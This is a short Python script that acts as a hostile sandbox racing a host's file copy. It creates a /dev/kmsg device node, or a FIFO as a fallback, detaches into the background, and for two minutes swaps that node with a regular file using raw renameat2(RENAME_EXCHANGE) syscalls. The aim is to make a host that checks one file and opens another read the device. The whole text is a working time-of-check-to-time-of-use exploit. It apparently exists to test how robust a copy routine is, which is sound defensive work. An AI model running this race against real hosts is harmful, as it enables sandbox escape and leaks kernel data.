# A hostile sandbox racing the host's `cp`: it swaps a regular file and a special file
# (a device node, or a FIFO when mknod is not allowed) with renameat2(RENAME_EXCHANGE) in a
# tight loop, so that a host that stats one and opens the other reads the device.
import ctypes, os, platform, stat, sys, time

d = "/tmp/r"
os.makedirs(d, exist_ok=True)
with open(d + "/f", "w") as f:
    f.write("d" * 4096)
try:
    os.mknod(d + "/x", 0o644 | stat.S_IFCHR, os.makedev(1, 11))  # /dev/kmsg
    kind = "device"
except OSError:
    os.mkfifo(d + "/x")
    kind = "fifo"
print(kind, flush=True)
if os.fork():
    sys.exit(0)
os.setsid()
for fd in (0, 1, 2):
    os.close(fd)
nr = {"x86_64": 316, "aarch64": 276}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
a, b = (d + "/f").encode(), (d + "/x").encode()
deadline = time.time() + 120
while time.time() < deadline:
    libc.syscall(nr, -100, a, -100, b, 2)  # AT_FDCWD, RENAME_EXCHANGE
